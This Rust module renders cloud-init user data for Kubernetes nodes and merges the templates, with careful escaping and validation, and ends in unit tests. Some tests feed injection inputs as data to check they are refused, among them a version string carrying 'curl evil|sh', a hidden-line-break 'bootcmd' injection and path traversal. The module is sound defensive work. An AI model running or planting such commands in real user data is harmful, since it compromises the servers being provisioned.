//! cloud-init user data for the instances `apply` orders or reinstalls.
//!
//! The templates are plain files in `cloud-init/` at the repository root, so
//! a reviewer reads exactly what a server receives; they are embedded with
//! `include_str!` so the binary needs nothing beside it. Substitution is
//! deliberately tiny: user data is security relevant and must stay
//! readable. A variable the caller did not provide is an error naming the
//! template and the variable, never an empty string.
//!
//! No value can change the document it is put into (add a key, end a list,
//! start a `bootcmd`), whatever characters it holds:
//! - `{{ variable }}` stands where a YAML value goes, and is written as a
//!   double-quoted scalar holding exactly the value ([`crate::yaml::quoted`]);
//! - `{{ variable | word }}` may stand inside other text (a URL, a shell
//!   command, a comment), so its value must be one word of letters, digits,
//!   `.`, `_` and `-`, or rendering fails;
//! - `{{ variable | block }}` is a multi-line value standing alone on its
//!   line inside a literal block (`|`): every line must be printable ASCII,
//!   the first not starting with a space, or rendering fails.
//!
//! Every node gets `base.yaml` and `firewall.yaml` (its host firewall);
//! k3s nodes add `k3s.yaml`, kubeadm nodes `kubeadm.yaml`. cloud-config is
//! a single YAML document, so they are merged into one (see [`merge`]), in
//! that order: each later template's items are appended to the base's lists
//! (`write_files`, `runcmd`, `packages`) and its other keys follow the
//! base's. One document is easier to read and to validate with
//! `cloud-init schema` than a MIME multipart, and the merge is simple
//! enough to check by eye. Each template is itself a valid cloud-config.

use std::collections::BTreeMap;

use crate::firewall::FirewallShape;
use crate::inventory::KubernetesVersion;
use crate::plan::UserDataTemplate;
use crate::secret::Secret;

/// A template: its path (for messages) and its text.
type Template = (&'static str, &'static str);

/// The base template every node gets.
const BASE: Template = (
    "cloud-init/base.yaml",
    include_str!("../../cloud-init/base.yaml"),
);

/// The host firewall every node gets (see [`crate::firewall`]).
const FIREWALL: Template = (
    "cloud-init/firewall.yaml",
    include_str!("../../cloud-init/firewall.yaml"),
);

/// What k3s nodes add.
const K3S: Template = (
    "cloud-init/k3s.yaml",
    include_str!("../../cloud-init/k3s.yaml"),
);

/// What kubeadm nodes add.
const KUBEADM: Template = (
    "cloud-init/kubeadm.yaml",
    include_str!("../../cloud-init/kubeadm.yaml"),
);

/// The login user kiwi-infra creates on every node.
pub const ADMIN_USER: &str = "kiwi";

/// What a template can refer to.
#[derive(Debug, Clone)]
pub struct UserDataVars {
    /// Node (slot) name, used as hostname.
    pub hostname: String,
    /// The operator's OpenSSH public key.
    pub ssh_public_key: String,
    /// The node's host private key, OpenSSH format (see `ssh::hostkey`).
    pub host_private_key: Secret<String>,
    /// The node's host public key, `ssh-ed25519 AAAA…`.
    pub host_public_key: String,
    /// The cluster's Kubernetes version (`v1.31.4`); kubeadm nodes need it
    /// for their package repository, k3s nodes do not.
    pub kubernetes_version: Option<String>,
    /// The node's host firewall, from its order or reinstall step; written
    /// as `/etc/nftables.conf` ([`crate::firewall::render`]).
    pub firewall: FirewallShape,
}

impl UserDataVars {
    /// The variables a template may use. `kubernetes_minor` is present only
    /// with a Kubernetes version, so a kubeadm template without one fails
    /// naming it.
    fn as_map(&self) -> Result<BTreeMap<&'static str, String>, CloudInitError> {
        let mut map = BTreeMap::from([
            ("hostname", self.hostname.clone()),
            ("ssh_public_key", self.ssh_public_key.trim().to_string()),
            ("admin_user", ADMIN_USER.to_string()),
            (
                "host_private_key",
                self.host_private_key.expose().trim_end().to_string(),
            ),
            ("host_public_key", self.host_public_key.trim().to_string()),
            ("firewall_ruleset", crate::firewall::render(&self.firewall)),
        ]);
        if let Some(version) = &self.kubernetes_version {
            // The same grammar `validate` holds the inventory to: the minor
            // version becomes part of a package-repository URL.
            let version: KubernetesVersion =
                version
                    .parse()
                    .map_err(|reason| CloudInitError::InvalidValue {
                        variable: "kubernetes_minor".into(),
                        reason,
                    })?;
            map.insert("kubernetes_minor", version.minor_release());
        }
        Ok(map)
    }
}

/// `v1.31.4` → `v1.31` (the package repository's name for the minor version).
/// Lenient (it takes `1.30` too); rendering does not use it, but holds the
/// version to [`KubernetesVersion`]'s grammar, as `validate` does.
pub fn kubernetes_minor(version: &str) -> Option<String> {
    let digits = version.trim().trim_start_matches('v');
    let mut parts = digits.split('.');
    let major = parts.next()?;
    let minor = parts.next()?;
    let numeric = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit());
    (numeric(major) && numeric(minor)).then(|| format!("v{major}.{minor}"))
}

/// A template that cannot be rendered.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CloudInitError {
    /// The template names a variable nobody provides.
    #[error("cloud-init template {template}, line {line}: unknown variable `{variable}`")]
    MissingVariable {
        /// Template path, e.g. `cloud-init/base.yaml`.
        template: String,
        /// 1-based line.
        line: usize,
        /// The variable's name.
        variable: String,
    },
    /// `{{` without a matching `}}`.
    #[error("cloud-init template {template}, line {line}: `{{{{` is not closed by `}}}}`")]
    Unclosed {
        /// Template path.
        template: String,
        /// 1-based line.
        line: usize,
    },
    /// A value would break the YAML it is put into (a line break).
    #[error("value of `{variable}` for cloud-init template {template} contains a line break")]
    MultilineValue {
        /// Template path.
        template: String,
        /// The variable's name.
        variable: String,
    },
    /// A `| block` variable that does not stand alone on its line, or an
    /// unknown filter (only `word` and `block` exist).
    #[error(
        "cloud-init template {template}, line {line}: `{variable}` must be written \
         `{{{{ {variable} | block }}}}` alone on its line"
    )]
    BadBlock {
        /// Template path.
        template: String,
        /// 1-based line.
        line: usize,
        /// The variable's name.
        variable: String,
    },
    /// A provided value is unusable.
    #[error("cannot render cloud-init variable `{variable}`: {reason}")]
    InvalidValue {
        /// The variable's name.
        variable: String,
        /// What is wrong.
        reason: String,
    },
    /// Two templates set the same key in ways that cannot be merged.
    #[error(
        "cloud-init templates {base} and {part} both set `{key}`, and not both as a list; \
         only lists can be merged"
    )]
    Conflict {
        /// The base template.
        base: String,
        /// The kind's template.
        part: String,
        /// The top-level key.
        key: String,
    },
}

/// The template files a node kind gets, in merge order: the base, the
/// firewall every node gets, then the kind's.
pub fn templates_for(template: UserDataTemplate) -> [(&'static str, &'static str); 3] {
    let part = match template {
        UserDataTemplate::K3sServer | UserDataTemplate::K3sAgent => K3S,
        UserDataTemplate::KubeadmWorker => KUBEADM,
    };
    [BASE, FIREWALL, part]
}

/// Renders the user data of a node. The result is wrapped in [`Secret`]
/// because it carries the node's host private key.
pub fn render(
    template: UserDataTemplate,
    vars: &UserDataVars,
) -> Result<Secret<String>, CloudInitError> {
    let map = vars.as_map()?;
    let map: BTreeMap<&str, &str> = map.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let [(base_name, base_text), (firewall_name, firewall_text), (part_name, part_text)] =
        templates_for(template);
    let base = substitute(base_name, base_text, &map)?;
    let firewall = substitute(firewall_name, firewall_text, &map)?;
    let part = substitute(part_name, part_text, &map)?;
    let base = merge(base_name, &base, firewall_name, &firewall)?;
    merge(base_name, &base, part_name, &part).map(Secret::new)
}

/// Replaces each `{{ variable }}` in `text` by its value as a double-quoted
/// YAML scalar, each `{{ variable | word }}` by its value (one word, checked),
/// and each `{{ variable | block }}` (alone on its line) by its possibly
/// multi-line value (checked), every line indented like the placeholder.
pub fn substitute(
    template: &str,
    text: &str,
    vars: &BTreeMap<&str, &str>,
) -> Result<String, CloudInitError> {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("{{") {
        out.push_str(&rest[..start]);
        let offset = text.len() - rest.len() + start;
        let line = line_of(text, offset);
        let after = &rest[start + 2..];
        let Some(end) = after.find("}}") else {
            return Err(CloudInitError::Unclosed {
                template: template.to_string(),
                line,
            });
        };
        let inner = after[..end].trim();
        let (variable, filter) = match inner.split_once('|') {
            Some((v, f)) => (v.trim(), Some(f.trim())),
            None => (inner, None),
        };
        let value = vars
            .get(variable)
            .ok_or_else(|| CloudInitError::MissingVariable {
                template: template.to_string(),
                line,
                variable: variable.to_string(),
            })?;
        rest = &after[end + 2..];
        match filter {
            None => {
                // Quoting would keep a line break harmless, but no value
                // of a one-line variable has one: it is a mistake upstream.
                if value.chars().any(is_line_break) {
                    return Err(CloudInitError::MultilineValue {
                        template: template.to_string(),
                        variable: variable.to_string(),
                    });
                }
                out.push_str(&crate::yaml::quoted(value));
            }
            Some("word") => {
                if !is_word(value) {
                    return Err(CloudInitError::InvalidValue {
                        variable: variable.to_string(),
                        reason: format!(
                            "{template}, line {line}: the value is written inside other text, \
                             so it must be one word of letters, digits, `.`, `_` and `-`"
                        ),
                    });
                }
                out.push_str(value);
            }
            Some("block") => {
                let bad = || CloudInitError::BadBlock {
                    template: template.to_string(),
                    line,
                    variable: variable.to_string(),
                };
                let line_start = text[..offset].rfind('\n').map_or(0, |i| i + 1);
                let indent = &text[line_start..offset];
                let tail = rest.split('\n').next().unwrap_or("");
                if !indent.chars().all(|c| c == ' ')
                    || indent.is_empty()
                    || !tail.trim().is_empty()
                    || value.trim().is_empty()
                {
                    return Err(bad());
                }
                if let Err(reason) = check_block(value) {
                    return Err(CloudInitError::InvalidValue {
                        variable: variable.to_string(),
                        reason: format!("{template}, line {line}: {reason}"),
                    });
                }
                for (i, value_line) in value.lines().enumerate() {
                    if i > 0 {
                        out.push('\n');
                        if !value_line.is_empty() {
                            out.push_str(indent);
                        }
                    }
                    out.push_str(value_line.trim_end_matches('\r'));
                }
            }
            Some(_) => {
                return Err(CloudInitError::BadBlock {
                    template: template.to_string(),
                    line,
                    variable: variable.to_string(),
                })
            }
        }
    }
    out.push_str(rest);
    Ok(out)
}

/// Every character YAML (1.1, as cloud-init reads it, or 1.2) breaks a
/// line at.
fn is_line_break(c: char) -> bool {
    matches!(c, '\n' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}')
}

/// A value that may stand inside other text: in a URL, a quoted shell
/// command, a comment or a literal block, these characters mean nothing.
fn is_word(value: &str) -> bool {
    !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

/// A value for a literal block scalar: lines of printable ASCII (a CR
/// before a LF is tolerated), the first neither empty nor starting with a
/// space (the first line with text sets the block's indentation; a deeper
/// one would let a later line end the block).
fn check_block(value: &str) -> Result<(), String> {
    let mut lines = value.split('\n').map(|l| l.strip_suffix('\r').unwrap_or(l));
    if lines
        .next()
        .is_none_or(|first| first.is_empty() || first.starts_with(' '))
    {
        return Err("the first line of a block value is empty or starts with a space".into());
    }
    if !value
        .split('\n')
        .map(|l| l.strip_suffix('\r').unwrap_or(l))
        .all(|l| l.bytes().all(|b| (b' '..=b'~').contains(&b)))
    {
        return Err(
            "a block value may hold printable ASCII only (no control character, tab or \
             line separator inside a line)"
                .into(),
        );
    }
    Ok(())
}

fn line_of(text: &str, offset: usize) -> usize {
    text[..offset].matches('\n').count() + 1
}

/// One top-level key of a cloud-config document, with the comment lines
/// just above it and everything indented below it.
#[derive(Debug)]
struct Block<'a> {
    key: &'a str,
    comments: Vec<&'a str>,
    /// The key's line.
    head: &'a str,
    /// The lines below the key (indented, blank or comments).
    body: Vec<&'a str>,
    /// List items another template appends (see [`merge`]).
    appended: Vec<&'a str>,
}

impl Block<'_> {
    /// `key:` with nothing after it, and only indented list items below.
    fn is_list(&self) -> bool {
        let after = self.head[self.key.len() + 1..].trim();
        let first_item = self
            .body
            .iter()
            .map(|l| l.trim_start())
            .find(|l| !l.is_empty() && !l.starts_with('#'));
        (after.is_empty() || after.starts_with('#'))
            && first_item.is_some_and(|l| l.starts_with("- "))
    }
}

/// Splits a document into its preamble (lines before the first key) and
/// its top-level keys.
fn blocks(text: &str) -> (Vec<&str>, Vec<Block<'_>>) {
    let mut preamble = Vec::new();
    let mut blocks: Vec<Block<'_>> = Vec::new();
    let mut pending_comments = Vec::new();
    for line in text.lines() {
        let top_level_key = line.split_once(':').map(|(k, _)| k).filter(|k| {
            !k.is_empty()
                && k.chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
                && line.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        });
        if let Some(key) = top_level_key {
            blocks.push(Block {
                key,
                comments: std::mem::take(&mut pending_comments),
                head: line,
                body: Vec::new(),
                appended: Vec::new(),
            });
        } else if line.starts_with('#') {
            pending_comments.push(line);
        } else if let Some(block) = blocks.last_mut() {
            // Comments a blank line away from the next key belong above it.
            block.body.append(&mut pending_comments);
            block.body.push(line);
        } else {
            preamble.append(&mut pending_comments);
            preamble.push(line);
        }
    }
    match blocks.last_mut() {
        Some(block) => block.body.append(&mut pending_comments),
        None => preamble.append(&mut pending_comments),
    }
    (preamble, blocks)
}

/// Merges the rendered kind template `part` into the rendered `base`: list
/// keys both set get the part's items after the base's; keys only the part
/// sets follow the base's keys; any other key both set is a conflict. The
/// part's preamble (its `#cloud-config` line and header comment) is left
/// out: the base's speaks for the document.
pub fn merge(
    base_name: &str,
    base: &str,
    part_name: &str,
    part: &str,
) -> Result<String, CloudInitError> {
    let (base_preamble, mut base_blocks) = blocks(base);
    let (_, part_blocks) = blocks(part);
    let mut extra = Vec::new();
    for block in part_blocks {
        match base_blocks.iter_mut().find(|b| b.key == block.key) {
            Some(existing) if existing.is_list() && block.is_list() => existing
                .appended
                .extend(block.body.iter().filter(|l| !l.trim().is_empty())),
            Some(_) => {
                return Err(CloudInitError::Conflict {
                    base: base_name.to_string(),
                    part: part_name.to_string(),
                    key: block.key.to_string(),
                })
            }
            None => extra.push(block),
        }
    }
    let mut lines: Vec<String> = base_preamble.iter().map(|l| l.to_string()).collect();
    for block in &base_blocks {
        lines.extend(block.comments.iter().map(|l| l.to_string()));
        lines.push(block.head.to_string());
        // The appended items go after the base's, before its blank lines.
        let blank_tail = block
            .body
            .iter()
            .rev()
            .take_while(|l| l.trim().is_empty())
            .count();
        let (items, blanks) = block.body.split_at(block.body.len() - blank_tail);
        lines.extend(items.iter().map(|l| l.to_string()));
        if !block.appended.is_empty() {
            lines.push(format!("  # from {part_name}"));
            lines.extend(block.appended.iter().map(|l| l.to_string()));
        }
        lines.extend(blanks.iter().map(|l| l.to_string()));
    }
    if !extra.is_empty() {
        if lines.last().is_some_and(|l| !l.trim().is_empty()) {
            lines.push(String::new());
        }
        lines.push(format!("# ---- from {part_name} ----"));
        for block in &extra {
            lines.extend(block.comments.iter().map(|l| l.to_string()));
            lines.push(block.head.to_string());
            lines.extend(block.body.iter().map(|l| l.to_string()));
        }
    }
    while lines.last().is_some_and(|l| l.trim().is_empty()) {
        lines.pop();
    }
    let mut out = lines.join("\n");
    out.push('\n');
    Ok(out)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn vars() -> UserDataVars {
        UserDataVars {
            hostname: "kiwi-core-general-01".into(),
            ssh_public_key: "ssh-ed25519 AAAATEST ops@kiwistack.io\n".into(),
            host_private_key: Secret::new(
                "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\nBBBB\n-----END OPENSSH PRIVATE KEY-----\n"
                    .into(),
            ),
            host_public_key: "ssh-ed25519 AAAAHOST".into(),
            kubernetes_version: Some("v1.31.4".into()),
            firewall: FirewallShape {
                operator_networks: vec!["198.51.100.0/24".parse().unwrap()],
                operator_tcp: vec![crate::firewall::PortRange::single(22)],
                ..FirewallShape::default()
            },
        }
    }

    #[test]
    fn base_template_sets_hostname_admin_key_and_locks_root_and_passwords() {
        let text = render(UserDataTemplate::KubeadmWorker, &vars()).unwrap();
        let text = text.expose();
        assert!(text.starts_with("#cloud-config\n"));
        // Every value is a double-quoted scalar (see `crate::yaml`).
        assert!(text.contains("hostname: \"kiwi-core-general-01\"\n"));
        assert!(text.contains("- name: \"kiwi\"\n"));
        assert!(text.contains("      - \"ssh-ed25519 AAAATEST ops@kiwistack.io\"\n"));
        assert!(text.contains("NOPASSWD:ALL"));
        assert!(text.contains("disable_root: true"));
        assert!(text.contains("ssh_pwauth: false"));
        assert!(!text.contains("{{"), "unrendered variable left in:\n{text}");
    }

    #[test]
    fn the_host_key_is_rendered_as_an_indented_block() {
        let text = render(UserDataTemplate::K3sAgent, &vars()).unwrap();
        assert!(
            text.expose().contains(
                "  ed25519_private: |\n    -----BEGIN OPENSSH PRIVATE KEY-----\n    AAAA\n    \
                 BBBB\n    -----END OPENSSH PRIVATE KEY-----\n  ed25519_public: \"ssh-ed25519 \
                 AAAAHOST\"\n"
            ),
            "{}",
            text.expose()
        );
    }

    #[test]
    fn a_value_full_of_yaml_syntax_stays_one_string() {
        let mut v = vars();
        let key = "ssh-ed25519 AAAATEST ops: {bootcmd: [[sh, -c, 'x']]} # \"q\" \\ ü";
        v.ssh_public_key = key.into();
        v.hostname = "a: b".into();
        let text = render(UserDataTemplate::KubeadmWorker, &v).unwrap();
        let doc: serde_norway::Value = serde_norway::from_str(text.expose()).unwrap();
        assert_eq!(
            doc["users"][0]["ssh_authorized_keys"][0].as_str(),
            Some(key)
        );
        assert_eq!(doc["hostname"].as_str(), Some("a: b"));
        assert!(doc.get("bootcmd").is_none(), "{}", text.expose());
    }

    #[test]
    fn a_line_separator_in_a_value_is_refused_not_rendered() {
        // YAML reads U+2028 (and U+0085, U+2029) as a line break: once, an
        // invisible one in the key's comment added a bootcmd to every node.
        for brk in ['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}'] {
            let mut v = vars();
            v.ssh_public_key = format!("ssh-ed25519 AAAATEST ops{brk}bootcmd: [[reboot]]");
            assert!(
                matches!(
                    render(UserDataTemplate::K3sServer, &v),
                    Err(CloudInitError::MultilineValue { ref variable, .. }) if variable == "ssh_public_key"
                ),
                "{brk:?}"
            );
        }
    }

    #[test]
    fn words_and_blocks_are_held_to_their_grammar() {
        let words = BTreeMap::from([("w", "v1.31/../x"), ("ok", "v1.31")]);
        assert!(matches!(
            substitute("t", "url: \"https://x/{{ w | word }}/\"\n", &words),
            Err(CloudInitError::InvalidValue { .. })
        ));
        assert_eq!(
            substitute("t", "url: \"https://x/{{ ok | word }}/\"\n", &words).unwrap(),
            "url: \"https://x/v1.31/\"\n"
        );
        for bad in [
            " indented\nx",
            "\nx",
            "a\tb",
            "a\u{2028}b",
            "a\rb",
            "a\n\u{1b}[2J",
        ] {
            let vars = BTreeMap::from([("b", bad)]);
            assert!(
                matches!(
                    substitute("t", "k: |\n  {{ b | block }}\n", &vars),
                    Err(CloudInitError::InvalidValue { .. })
                ),
                "{bad:?}"
            );
        }
        let crlf = BTreeMap::from([("b", "a\r\nb\r\n")]);
        assert_eq!(
            substitute("t", "k: |\n  {{ b | block }}\n", &crlf).unwrap(),
            "k: |\n  a\n  b\n"
        );
    }

    #[test]
    fn kubeadm_nodes_need_a_strict_kubernetes_version() {
        for bad in ["v1.31", "v1.31.4; curl evil|sh", "v1.31.4/../../x"] {
            let mut v = vars();
            v.kubernetes_version = Some(bad.into());
            assert!(
                matches!(
                    render(UserDataTemplate::KubeadmWorker, &v),
                    Err(CloudInitError::InvalidValue { .. })
                ),
                "{bad}"
            );
        }
    }

    #[test]
    fn kind_items_are_appended_to_the_base_lists_once() {
        let text = render(UserDataTemplate::K3sServer, &vars()).unwrap();
        let text = text.expose();
        assert_eq!(text.matches("\nruncmd:").count(), 1, "{text}");
        let runcmd = &text[text.find("\nruncmd:").unwrap()..];
        let reload = runcmd.find("[systemctl, reload, ssh]").unwrap();
        let script = runcmd.find("/usr/local/bin/k3s-install.sh").unwrap();
        assert!(reload < script, "base items first:\n{runcmd}");
        assert!(!text.contains("kubelet"), "{text}");
    }

    #[test]
    fn kubeadm_nodes_need_a_kubernetes_version_and_name_the_variable() {
        let mut v = vars();
        v.kubernetes_version = None;
        let err = render(UserDataTemplate::KubeadmWorker, &v).unwrap_err();
        assert!(matches!(
            &err,
            CloudInitError::MissingVariable { template, variable, .. }
                if template == "cloud-init/kubeadm.yaml" && variable == "kubernetes_minor"
        ));
        // k3s nodes do not need one.
        render(UserDataTemplate::K3sServer, &v).unwrap();
        v.kubernetes_version = Some("latest".into());
        assert!(matches!(
            render(UserDataTemplate::KubeadmWorker, &v),
            Err(CloudInitError::InvalidValue { .. })
        ));
    }

    #[test]
    fn minor_versions() {
        assert_eq!(kubernetes_minor("v1.31.4").as_deref(), Some("v1.31"));
        assert_eq!(kubernetes_minor("1.30").as_deref(), Some("v1.30"));
        assert_eq!(kubernetes_minor("v1"), None);
        assert_eq!(kubernetes_minor("v1.x.0"), None);
    }

    #[test]
    fn missing_variable_names_template_line_and_variable() {
        let err = substitute("t.yaml", "a\nb: {{ nope }}\n", &BTreeMap::new()).unwrap_err();
        assert_eq!(
            err.to_string(),
            "cloud-init template t.yaml, line 2: unknown variable `nope`"
        );
    }

    #[test]
    fn unclosed_braces_and_multiline_values_are_errors() {
        let vars = BTreeMap::from([("x", "1\n2")]);
        assert!(matches!(
            substitute("t", "{{ x", &vars),
            Err(CloudInitError::Unclosed { line: 1, .. })
        ));
        assert!(matches!(
            substitute("t", "{{ x }}", &vars),
            Err(CloudInitError::MultilineValue { .. })
        ));
    }

    #[test]
    fn block_values_must_stand_alone_on_an_indented_line() {
        let vars = BTreeMap::from([("x", "1\n\n2\n")]);
        assert_eq!(
            substitute("t", "k: |\n  {{ x | block }}\nn: 1\n", &vars).unwrap(),
            "k: |\n  1\n\n  2\nn: 1\n"
        );
        for bad in [
            "k: {{ x | block }}\n",
            "{{ x | block }}\n",
            "  {{ x | block }} y\n",
        ] {
            assert!(
                matches!(
                    substitute("t", bad, &vars),
                    Err(CloudInitError::BadBlock { .. })
                ),
                "{bad:?}"
            );
        }
        assert!(matches!(
            substitute("t", "  {{ x | upper }}\n", &vars),
            Err(CloudInitError::BadBlock { .. })
        ));
    }

    #[test]
    fn merging_keys_that_are_not_lists_is_a_conflict() {
        let err = merge(
            "b",
            "#cloud-config\nntp:\n  enabled: true\n",
            "p",
            "ntp:\n  x: 1\n",
        )
        .unwrap_err();
        assert_eq!(
            err,
            CloudInitError::Conflict {
                base: "b".into(),
                part: "p".into(),
                key: "ntp".into()
            }
        );
    }
}
